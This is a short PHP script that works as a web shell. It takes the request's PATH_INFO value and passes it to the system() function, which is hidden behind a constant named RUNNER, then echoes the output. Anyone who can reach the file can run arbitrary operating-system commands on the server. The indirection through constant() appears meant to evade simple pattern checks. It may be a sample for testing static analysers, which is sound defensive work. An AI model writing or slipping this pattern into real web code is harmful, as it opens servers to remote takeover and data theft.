<?php
$op = $_SERVER['PATH_INFO'];
define('RUNNER', 'system');
echo constant('RUNNER')($op);
